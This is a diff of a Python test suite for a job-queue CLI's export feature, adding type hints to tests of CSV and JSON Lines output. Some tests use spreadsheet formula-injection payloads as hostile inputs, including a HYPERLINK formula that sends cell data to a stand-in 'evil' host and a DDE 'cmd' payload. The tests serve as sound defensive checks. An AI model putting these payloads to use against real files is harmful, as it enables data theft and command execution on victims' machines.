@@ -9,6 +9,7 @@ import os
 import stat
 import subprocess
 from importlib import import_module
+from pathlib import Path
 
 import pytest
 from harasocial_dispatch.schemas import QueueUnavailable, State
@@ -16,6 +17,9 @@ from harasocial_dispatch.schemas.error_codes import explain_any
 from harasocial_dispatch.schemas.export import csv_text, escape_cell, unescape_cell
 from hypothesis import given
 from hypothesis import strategies as st
+from support.command_line import Jobs, Run
+from support.failures import raising
+from support.harness import present
 
 WINDOW = explain_any("10/2018278")
 PAGE, OTHER_PAGE, RECIPIENT = "500725830264749", "600", "2560816460648749"
@@ -26,7 +30,7 @@ def rows(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text[1:])))
 
 
-def test_a_csv_has_a_row_for_each_failed_job(run, jobs):
+def test_a_csv_has_a_row_for_each_failed_job(run: Run, jobs: Jobs) -> None:
     """The failed jobs are listed, the latest first. Other jobs are not included."""
     first = jobs.failed(metadata="order 1001, paid", idempotency_key="k-1")
     second = jobs.failed("190", message='say "no"', page_id=OTHER_PAGE)
@@ -55,7 +59,7 @@ def test_a_csv_has_a_row_for_each_failed_job(run, jobs):
     assert (later["job_id"], later["error_message"], later["metadata"]) == (second, 'say "no"', "")
 
 
-def test_json_lines_have_the_format_of_show(run, jobs):
+def test_json_lines_have_the_format_of_show(run: Run, jobs: Jobs) -> None:
     """Each line is one complete record."""
     ids = [jobs.failed(), jobs.failed()]
     result = run("export", "--format", "jsonl")
@@ -63,7 +67,7 @@ def test_json_lines_have_the_format_of_show(run, jobs):
     assert lines == [jobs.producer.get_job(job_id).as_json() for job_id in reversed(ids)]
 
 
-def test_the_filters_are_those_of_replay(run, jobs):
+def test_the_filters_are_those_of_replay(run: Run, jobs: Jobs) -> None:
     """Filters by error code, page and time work alone and together."""
     window = jobs.failed()
     token = jobs.failed("190", page_id=OTHER_PAGE)
@@ -80,7 +84,7 @@ def test_the_filters_are_those_of_replay(run, jobs):
 
 
 @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "＝"])
-def test_a_spreadsheet_reads_no_cell_as_a_formula(run, jobs, begin):
+def test_a_spreadsheet_reads_no_cell_as_a_formula(run: Run, jobs: Jobs, begin: str) -> None:
     """A formula in metadata must not run in a spreadsheet."""
     formula = f'{begin}HYPERLINK("http://evil/?"&A1)'
     jobs.failed(message=formula, metadata=formula)
@@ -92,7 +96,9 @@ def test_a_spreadsheet_reads_no_cell_as_a_formula(run, jobs, begin):
 @pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
 @pytest.mark.parametrize("quote", ["", '"', ' "', "\t"])
 @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "＝"])
-def test_no_cell_is_a_formula_with_another_separator(separator, quote, begin):
+def test_no_cell_is_a_formula_with_another_separator(
+    separator: str, quote: str, begin: str
+) -> None:
     """In some locales, Excel splits at semicolons and reads quotes literally."""
     text = csv_text([["x", f'a{separator}{quote}{begin}cmd|"/c calc"!A1{separator}b', "y"]])
     for delimiter in (",", ";", "\t"):
@@ -105,7 +111,7 @@ telling = st.text("=+-@'\";,\t\r\n |x0159./:eE＝", max_size=12) | st.text(max_s
 
 
 @given(telling)
-def test_a_protected_cell_is_read_back_as_it_was(cell):
+def test_a_protected_cell_is_read_back_as_it_was(cell: str) -> None:
     """Any text is read back unchanged, also with its own apostrophes or without protection."""
     assert unescape_cell(escape_cell(cell)) == cell
     if escape_cell(cell) == cell:
@@ -132,12 +138,14 @@ def test_a_protected_cell_is_read_back_as_it_was(cell):
         ("Ngoài khung giờ", False),
     ],
 )
-def test_values_that_a_spreadsheet_would_change_are_protected(cell, is_protected):
+def test_values_that_a_spreadsheet_would_change_are_protected(
+    cell: str, is_protected: bool
+) -> None:
     """Long IDs would lose digits, and codes would become dates. Other texts are unchanged."""
     assert escape_cell(cell) == ("'" + cell if is_protected else cell)
 
 
-def test_an_exported_file_can_be_enqueued_again(run, jobs, tmp_path):
+def test_an_exported_file_can_be_enqueued_again(run: Run, jobs: Jobs, tmp_path: Path) -> None:
     """Each failed job becomes one new job, even if the file is enqueued several times."""
     # given failed jobs, with hostile and long texts
     keyed = jobs.failed(idempotency_key="order-1001", metadata="x;=cmd()", delivery="at_most_once")
@@ -171,7 +179,9 @@ def test_an_exported_file_can_be_enqueued_again(run, jobs, tmp_path):
 
 
 @pytest.mark.parametrize("name", ["failed.csv", "failed.jsonl"])
-def test_an_exported_job_stays_in_its_campaign(run, jobs, tmp_path, name):
+def test_an_exported_job_stays_in_its_campaign(
+    run: Run, jobs: Jobs, tmp_path: Path, name: str
+) -> None:
     """--campaign overrides the exported campaign."""
     jobs.failed(campaign="sale")
     file = tmp_path / name
@@ -188,7 +198,7 @@ def test_an_exported_job_stays_in_its_campaign(run, jobs, tmp_path, name):
     assert again.campaign == "sale-again"
 
 
-def test_exported_json_lines_can_be_enqueued_again(run, jobs, tmp_path):
+def test_exported_json_lines_can_be_enqueued_again(run: Run, jobs: Jobs, tmp_path: Path) -> None:
     """Like CSV: each failed job becomes one new job, even if enqueued several times."""
     keyed = jobs.failed(idempotency_key="order-1001", metadata="m", delivery="at_most_once")
     file = tmp_path / "failed.jsonl"
@@ -201,7 +211,9 @@ def test_exported_json_lines_can_be_enqueued_again(run, jobs, tmp_path):
     assert jobs.state(keyed) is State.FAILED
 
 
-def test_a_file_gets_its_name_when_it_is_complete(run, jobs, tmp_path, monkeypatch):
+def test_a_file_gets_its_name_when_it_is_complete(
+    run: Run, jobs: Jobs, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The extension sets the format, only the owner can read it, and a partial file is deleted."""
     job_id = jobs.failed()
     file = tmp_path / "failed.jsonl"
@@ -211,29 +223,28 @@ def test_a_file_gets_its_name_when_it_is_complete(run, jobs, tmp_path, monkeypat
     assert stat.S_IMODE(file.stat().st_mode) == 0o600
 
     # when Redis fails during the next export
-    def break_off(records):
-        raise QueueUnavailable("Redis did not answer")
-
     monkeypatch.setattr(
-        import_module("harasocial_dispatch.cli.commands.export"), "json_lines", break_off
+        import_module("harasocial_dispatch.cli.commands.export"),
+        "json_lines",
+        raising(QueueUnavailable("Redis did not answer")),
     )
     assert run("export", "-o", file).exit_code == 4
     assert json.loads(file.read_text())["job_id"] == job_id
     assert [path.name for path in tmp_path.iterdir()] == ["failed.jsonl"]
 
 
-def test_the_output_can_be_a_named_pipe(run, jobs, tmp_path):
+def test_the_output_can_be_a_named_pipe(run: Run, jobs: Jobs, tmp_path: Path) -> None:
     """The output can be `/dev/stderr` or a named pipe."""
     jobs.failed()
     fifo = tmp_path / "fifo"
     os.mkfifo(fifo)
     with subprocess.Popen(["cat", fifo], stdout=subprocess.PIPE, text=True) as reader:
         assert run("export", "-o", fifo).exit_code == 0
-        assert len(rows(reader.stdout.read())) == 1
+        assert len(rows(present(reader.stdout).read())) == 1
     assert fifo.is_fifo()
 
 
-def test_a_missing_folder_is_an_error(run, tmp_path):
+def test_a_missing_folder_is_an_error(run: Run, tmp_path: Path) -> None:
     """The error is one line, without a traceback."""
     result = run("export", "-o", tmp_path / "nowhere" / "a.csv")
     file = tmp_path / "nowhere" / "a.csv"
@@ -241,7 +252,7 @@ def test_a_missing_folder_is_an_error(run, tmp_path):
     assert f"cannot write {file}: No such file or directory\n" in result.stderr
 
 
-def test_thousands_of_jobs_are_exported_exactly_once(run, jobs):
+def test_thousands_of_jobs_are_exported_exactly_once(run: Run, jobs: Jobs) -> None:
     """Over several pages of results, every job is exported exactly once."""
     body = {"recipient": {"id": RECIPIENT}, "message": {"payload_id": "p"}}
     report = jobs.producer.enqueue_many({**body, "page_id": str(i % 7 + 1)} for i in range(1200))
